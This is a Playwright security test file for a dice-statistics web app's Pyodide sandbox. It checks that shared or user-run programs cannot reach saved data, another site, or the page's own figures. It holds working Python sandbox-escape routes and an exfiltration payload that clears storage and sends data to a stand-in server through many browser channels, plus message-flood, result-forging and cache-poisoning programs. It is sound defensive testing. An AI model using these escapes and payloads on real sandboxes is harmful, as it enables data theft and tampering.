"""A link never runs code, and a program reaches neither saved data nor the network, nor the
figures of the user's rows, nor the page's main thread for long.

A second local server stands for another site. Programs that leave Python's name filter by four
roads (a module's ``sys`` → ``builtins``; ``__subclasses__`` → a function's ``__globals__``; a
frame's builtins; ``gc.get_objects()``) each try to read localStorage and IndexedDB, send what
they find to that server by every means a worker has, and clear the store. Opened from a link
they do not run; run by the user's click they run to the end, in the sandboxed runner, and the
other server hears nothing, the saved log is intact and the cached page is the built one.
"""

from __future__ import annotations

import json
import shutil
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest
from playwright.sync_api import Browser, Page, expect

from e2e_support import FREEZE_MS, LONG_TASKS, Watch, open_app, wait_ready, wait_until_controlled, watch_page
from panels.notation.lab_share import encode_lab
from panels.notation.lab_state import Lab
from serve import serve_in_thread

STEAL = """
def xhr(js, url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url)
    request.send()


def steal(js, road):
    seen = []
    attempts = (
        lambda: seen.append("ls=" + str(js.localStorage.length)),
        lambda: seen.append("ls-key=" + str(js.localStorage.key(0))),
        lambda: seen.append("idb=" + str(js.indexedDB.open("gm-dice"))),
        lambda: js.indexedDB.deleteDatabase("gm-dice"),
        lambda: js.caches.keys(),
        lambda: js.localStorage.clear(),
        lambda: js.fetch(OTHER + "/fetch?road=" + road + "&seen=" + ",".join(seen)),
        lambda: js.fetch(OTHER + "/post?road=" + road, js.Object.fromEntries([["method", "POST"], ["body", "x"]])),
        # the worker's own fetch, not the runner's wrapper around it
        lambda: js.Reflect.apply(js.WorkerGlobalScope.prototype.fetch, js.self, [OTHER + "/real?road=" + road]),
        lambda: xhr(js, OTHER + "/xhr?road=" + road),
        lambda: js.navigator.sendBeacon(OTHER + "/beacon?road=" + road, "x"),
        lambda: js.WebSocket.new(OTHER.replace("http", "ws") + "/ws?road=" + road),
        lambda: js.EventSource.new(OTHER + "/sse?road=" + road),
        lambda: js.importScripts(OTHER + "/script.js?road=" + road),
        lambda: js.eval("fetch('" + OTHER + "/eval?road=" + road + "')"),
        lambda: js.Function.new("return fetch('" + OTHER + "/function?road=" + road + "')")(),
        lambda: js.Worker.new(OTHER + "/worker.js?road=" + road),
        lambda: js.setTimeout(js.Function.new("fetch('" + OTHER + "/later?road=" + road + "')"), 10),
    )
    for attempt in attempts:
        try:
            attempt()
        except Exception:
            pass
    output(d6, "road " + road)
"""

# Each road reaches the real builtins module, whose __import__ gives the page's runtime (`js`).
ROADS = {
    "1": """
import dataclasses
real = dataclasses.sys.modules["builtins"]
steal(real.getattr(real, "__import__")("js"), "1")
""",
    "2": """
import string
field = string.Formatter().get_field
for cls in field("0.__class__.__base__.__subclasses__", [()], {})[0]():
    try:
        found = field("0.__init__.__globals__", [cls], {})[0]
    except Exception:
        continue
    if "sys" in found:
        real = found["sys"].modules["builtins"]
        break
steal(real.getattr(real, "__import__")("js"), "2")
""",
    "3": """
def probe():
    yield walker.gi_frame.f_back
walker = probe()
frame = next(walker)
while "eval" not in frame.f_builtins:
    frame = frame.f_back
steal(frame.f_builtins["__import__"]("js"), "3")
""",
    "4": """
import dataclasses
real = dataclasses.sys.modules["builtins"]
gc = real.getattr(real, "__import__")("gc")
module = type(gc)
for thing in gc.get_objects():
    if type(thing) is module and str(thing) == "<module 'builtins' (built-in)>":
        real = thing
        break
steal(real.getattr(real, "__import__")("js"), "4")
""",
}


class Other(BaseHTTPRequestHandler):
    """Another site: records every request it gets, whatever its method."""

    heard: ClassVar[list[str]] = []

    def _record(self) -> None:
        Other.heard.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"")

    do_GET = do_POST = do_PUT = do_OPTIONS = _record

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def other_site() -> Iterator[str]:
    Other.heard = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Other)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture
def own_site(site_dir: Path, tmp_path: Path) -> Path:
    site = tmp_path / "site"
    shutil.copytree(site_dir, site)
    return site


def _refusals_only(watch: Watch) -> None:
    """The sandbox's CSP refusals are what a blocked attempt logs; anything else is a fault."""
    refused = ("Content Security Policy", "Failed to fetch", "NetworkError", "Refused to")
    watch.console_errors = [e for e in watch.console_errors if not any(r in e for r in refused)]
    watch.assert_clean()


def _gauss_log(page: Page) -> list[str]:
    return page.locator("#gauss-log li").all_inner_texts()


def test_a_shared_program_reaches_no_saved_data_and_no_other_site(
    browser: Browser, site_url: str, other_site: str
) -> None:
    """Each road out: no request on open (it does not run), none after the click (it runs, boxed in)."""
    watch = Watch()
    context, page = open_app(browser, site_url + "index.html?seed=7", watch)
    for _ in range(3):
        page.click("#gauss-roll")
    expect(page.locator("#gauss-log li")).to_have_count(3)
    log = _gauss_log(page)
    wait_until_controlled(page)
    for road, source in ROADS.items():
        program = f"OTHER = {other_site!r}\n{STEAL}\n{source}"
        link = encode_lab(Lab(("3d6",), program=program))
        page.goto(site_url + f"index.html?lab={link}#notation")
        wait_ready(page, "notation")
        expect(page.locator("#lab-stats th")).to_have_text(["3d6"])
        assert page.input_value("#lab-program") == program
        expect(page.locator("#lab-program-origin")).to_contain_text("Программа из ссылки")
        page.wait_for_timeout(500)
        assert page.evaluate("gmRunner.running()") is False, "a link started the runner"
        assert Other.heard == [], f"road {road} from the link alone: {Other.heard}"
        page.click("#lab-program-run")
        expect(page.locator("#lab-stats th")).to_have_text(["3d6", f"программа: road {road}"], timeout=60_000)
        page.wait_for_timeout(1000)  # what it scheduled (timers, promises) has had its time
        assert Other.heard == [], f"road {road} after the click: {Other.heard}"
    assert page.evaluate("gmRunner.boot()") == "snapshot"
    # Nothing of the site was touched: the log is there after a reload, the cache holds the built page.
    page.goto(site_url + "index.html")
    wait_ready(page)
    expect(page.locator("#gauss-log li")).to_have_count(3)
    assert _gauss_log(page) == log
    cached = page.evaluate("caches.match('./index.html').then(r => r.text())")
    served = page.evaluate("fetch('./index.html').then(r => r.text())")
    assert cached == served and 'id="lab-program-run"' in cached
    assert Other.heard == []
    context.close()
    _refusals_only(watch)


HOOK = """
import dataclasses
real = dataclasses.sys.modules["builtins"]
grab = real.getattr(real, "__import__")
js, ffi = grab("js"), grab("pyodide.ffi", None, None, ["create_proxy"])
original, calls = js.self.postMessage, []


def swallow(message, *rest):
    calls.append(1)
    if len(calls) == 1:  # this program's own answer goes out; every later one is lost
        original.call(js.self, message)


js.self.postMessage = ffi.create_proxy(swallow)
output(d4, "hooked")
"""


def test_what_a_program_leaves_behind_ends_with_it(browser: Browser, site_url: str) -> None:
    """A program that hooks its worker (here: it swallows every later answer) cannot touch the next
    run: every run gets a fresh runner, started as soon as the last one answered."""
    watch = Watch()
    context, page = open_app(browser, site_url + "index.html#notation", watch, "notation")
    page.fill("#lab-row-0", "d6")
    page.fill("#lab-program", HOOK)
    page.click("#lab-program-run")
    expect(page.locator("#lab-stats th")).to_have_text(["d6", "программа: hooked"], timeout=60_000)
    first = page.evaluate("document.querySelector('iframe.program-runner')?.dataset.generation")
    page.fill("#lab-program", 'output(d8, "honest")')
    page.click("#lab-program-run")
    expect(page.locator("#lab-stats th")).to_have_text(["d6", "программа: honest"], timeout=60_000)
    # the runner that answered is gone; its successor is being made (its iframe comes once its files are read)
    page.wait_for_function("document.querySelectorAll('iframe.program-runner').length === 1", timeout=60_000)
    assert page.evaluate("document.querySelector('iframe.program-runner').dataset.generation") != first
    context.close()
    watch.assert_clean()


# A program that leaves the name filter to the lab's own code in the runner and wraps the function
# that once computed the user's rows there, so that every row shows 17,50 · 0,50 · 17 · 18.
FORGE = """
import dataclasses
jobs = dataclasses.sys.modules["panels.notation.jobs"]
digest = jobs.lab_digest
real = digest.make


def forged(rows, *args, **kwargs):
    made = real(rows, *args, **kwargs)
    fake = tuple(
        dataclasses.replace(s, mean=digest.Fraction(35, 2), sd=0.5, minimum=17, maximum=18) for s in made.series
    )
    return dataclasses.replace(made, series=fake)


digest.make = forged
jobs.lab_digest.make = forged
output(d6, "honest")
"""
# An honest program may call its output anything, a row's expression too.
NAMED_3D6 = 'output(icepool.Die({17: 1, 18: 1}), "3d6")'


def _stats(page: Page) -> list[list[str]]:
    return [row.locator("th, td").all_inner_texts() for row in page.locator("#lab-stats tr").all()]


def test_a_program_cannot_forge_the_users_rows(browser: Browser, site_url: str) -> None:
    """The lab's figures come from the compute worker, never from the runner: a program that
    wraps the lab's own code in its sandbox changes nothing of the user's 3d6 row, and a program's
    output, whatever its label, is marked as the program's."""
    watch = Watch()
    context, page = open_app(browser, site_url + "index.html#notation", watch, "notation")
    page.fill("#lab-row-0", "3d6")
    page.click("#lab-run")
    expect(page.locator("#lab-stats tr")).to_have_count(1)
    honest = ["3d6", "10,50", "2,96", "3", "18"]
    assert _stats(page) == [honest]
    page.fill("#lab-program", FORGE)
    page.click("#lab-program-run")
    expect(page.locator("#lab-stats th")).to_have_text(["3d6", "программа: honest"], timeout=60_000)
    assert _stats(page) == [honest, ["программа: honest", "3,50", "1,71", "1", "6"]]
    page.fill("#lab-program", NAMED_3D6)
    page.click("#lab-program-run")
    expect(page.locator("#lab-stats th")).to_have_text(["3d6", "программа: 3d6"], timeout=60_000)
    assert _stats(page)[0] == honest
    context.close()
    watch.assert_clean()


# Programs that take over their runner's worker and post to the page: 300 answers of 3.9 MB (for
# requests nobody asked), then, from the next run, answers of 2 MB of escaped quotes with every
# request id the page may have given (the first reaches the page: within the size limit).
FLOOD = """
import dataclasses
real = dataclasses.sys.modules["builtins"]
grab = real.getattr(real, "__import__")
js, ffi = grab("js"), grab("pyodide.ffi", None, None, ["to_js"])
huge = ffi.to_js('"' + '\\\\"' * 1_950_000)
for k in range(300):
    js.self.postMessage(ffi.to_js({"id": 10_000 + k, "json": huge}, dict_converter=js.Object.fromEntries))
output(d4, "flood")
"""
POSTING = """
import dataclasses
real = dataclasses.sys.modules["builtins"]
grab = real.getattr(real, "__import__")
js, ffi = grab("js"), grab("pyodide.ffi", None, None, ["to_js"])
quotes = ffi.to_js('"' + '\\\\"' * 999_990)
for k in range(199):
    js.self.postMessage(ffi.to_js({"id": 1 + k % 10, "json": quotes}, dict_converter=js.Object.fromEntries))
output(d4, "posting")
"""
# Above every task that handling a program's answers takes once it runs (receiving them costs the
# page nothing, saying that they were dropped a few milliseconds): the old page spent 27 s in one
# task on the posted answers, and 485 ms on the flood. The best of three runs is taken, since on a
# shared machine another process can lengthen any one task.
TASK_MS = 100
TRIES = 3


def test_a_program_posting_huge_answers_never_freezes_the_page(browser: Browser, site_url: str) -> None:
    """A flood of 300 answers of 3.9 MB ends the runner after a few messages, unread; answers of
    2 MB of escaped quotes reach the compute worker as text the page never reads. Each time the
    lab says the answer was dropped, no main-thread task froze the page and, in the best of three
    runs, none passed TASK_MS; a program run next works."""
    watch = Watch()
    context, page = open_app(browser, site_url + "index.html#notation", watch, "notation")
    wait_ready(page)  # every panel mounted (each in a long task of its own, once the page is touched)
    assert page.evaluate("gmCompute.warm()") is True
    page.fill("#lab-row-0", "3d6")
    page.focus("#lab-program")  # the runner starts meanwhile
    page.wait_for_function("gmRunner.boot() !== ''", timeout=60_000)
    error = page.locator("#notation-lab .error")
    for program in (FLOOD, POSTING):
        page.fill("#lab-program", program)
        longest = []
        for _ in range(TRIES):
            page.click("#lab-program-run")
            page.evaluate(LONG_TASKS)  # from here on: the answers coming, dropped, the message shown
            page.wait_for_function("!gmRunner.busy() && !gmCompute.busy()", timeout=60_000)
            expect(error).to_contain_text("ответ отброшен")
            page.wait_for_timeout(500)  # what was still on its way has come, or never will
            longest.append(max(page.evaluate("window.longTasks"), default=0))
        assert max(longest) < FREEZE_MS and min(longest) <= TASK_MS, longest
        page.fill("#lab-program", 'output(d8, "honest")')
        page.click("#lab-program-run")
        expect(page.locator("#lab-stats th")).to_have_text(["3d6", "программа: honest"], timeout=60_000)
        expect(error).to_be_hidden()
    context.close()
    _refusals_only(watch)


def test_a_poisoned_cache_is_replaced_by_the_next_build(browser: Browser, own_site: Path) -> None:
    """A page poisoned by the old hole (index.html replaced in the service worker's cache) is gone
    once the next build's service worker takes over: every file is fetched again, old caches dropped."""
    server, url = serve_in_thread(own_site)
    watch = Watch()
    try:
        context, page = open_app(browser, url + "index.html", watch)
        wait_until_controlled(page)
        build = json.loads((own_site / "build.json").read_text())["build"]
        poison = (
            '<!doctype html><link rel=icon href="data:,"><title>poisoned</title><p id=poisoned>poisoned</p>'
        )
        page.evaluate(
            """([name, body]) => caches.open(name).then(c => c.put('./index.html',
                new Response(body, {headers: {'Content-Type': 'text/html'}})))""",
            [f"gm-dice-{build}", poison],
        )
        page.reload()
        expect(page.locator("#poisoned")).to_be_visible()  # the hole's effect, as it was
        worker = (own_site / "sw.js").read_text()
        (own_site / "sw.js").write_text(worker.replace(build, build[::-1]))  # the next build
        page.evaluate("navigator.serviceWorker.getRegistration().then(r => r.update())")
        page.wait_for_function(
            "navigator.serviceWorker.getRegistration().then(r => !!r.waiting)", polling=200, timeout=60_000
        )
        page.close()  # the old worker's last page: the waiting one takes over (a moment later)
        for _ in range(60):  # a bounded wait: each try leaves no page of the old worker open
            fresh = watch_page(context.new_page(), watch)
            fresh.goto(url + "index.html")
            if fresh.locator("#poisoned").count() == 0:
                break
            fresh.close()
            time.sleep(0.5)
        wait_ready(fresh)
        fresh.wait_for_function(f"caches.keys().then(k => !k.includes('gm-dice-{build}'))", timeout=30_000)
        assert f"gm-dice-{build[::-1]}" in fresh.evaluate("caches.keys()")
        cached = fresh.evaluate("caches.match('./index.html').then(r => r.text())")
        assert cached == (own_site / "index.html").read_text(encoding="utf-8")
        context.close()
    finally:
        server.shutdown()
    watch.assert_clean()
